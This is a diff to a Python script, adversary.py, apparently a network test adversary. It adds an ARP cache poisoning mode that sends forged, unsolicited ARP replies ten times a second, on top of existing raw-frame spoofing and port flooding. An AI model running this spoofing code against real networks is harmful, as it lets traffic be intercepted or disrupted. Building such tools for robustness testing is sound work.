@@ -4,12 +4,18 @@ Each becomes a frame with the sender's address SOURCE, which is some other host'
 "each": every line begins with its sender.
 adversary.py DEVICE SOURCE PORT HOST MAC FIRST LAST: from PORT to all those ports of HOST, until it is ended.
 adversary.py DEVICE answers PORT HOST MAC < lines: as "each", over and over until it is ended, to the port of HOST that its
-probes for PORT leave from."""
+probes for PORT leave from.
+adversary.py DEVICE claims ADDRESS OWN_MAC HOST MAC: answers of address resolution to HOST, that ADDRESS is at OWN_MAC, ten a
+second until it is ended."""
 
 import select
 import socket
 import struct
 import sys
+
+
+def bytes_of(mac):
+    return bytes.fromhex(mac.replace(":", ""))
 
 
 def checksum(data):
@@ -68,6 +74,15 @@ def answer(wire, own_mac, host, port, mac, lines):
             paced(wire, each)
 
 
+def claim(wire, address, own_mac, host, mac):
+    """RFC 826: a reply that was not asked for. The kernel takes it for an entry that it has."""
+    print("claiming", flush=True)
+    while True:
+        wire.send(mac + own_mac + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + own_mac + socket.inet_aton(address) +
+                  mac + socket.inet_aton(host))
+        select.select([], [], [], 0.1)
+
+
 def paced(wire, datagram):
     """Some 5,000 a second."""
     wire.send(datagram)
@@ -78,15 +93,17 @@ def main(device, source, port, host="239.255.255.250", mac=None, first=0, last=0
     with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
         wire.bind((device, 0))
         own_mac = wire.getsockname()[4]
+        if source == "claims":
+            claim(wire, port, bytes_of(host), mac, bytes_of(first))
         if source == "answers":
-            answer(wire, own_mac, host, int(port), bytes.fromhex(mac.replace(":", "")), sys.stdin)
+            answer(wire, own_mac, host, int(port), bytes_of(mac), sys.stdin)
         for line in sys.stdin:
             if source == "each":
                 sender, line = line.split()
                 paced(wire, frame(own_mac, sender, host, int(port), bytes.fromhex(line)))
                 continue
             datagram = frame(own_mac, source, host, int(port), bytes.fromhex(line),
-                             bytes.fromhex(mac.replace(":", "")) if mac else None)
+                             bytes_of(mac) if mac else None)
             if mac is None:
                 wire.send(datagram)
             else:
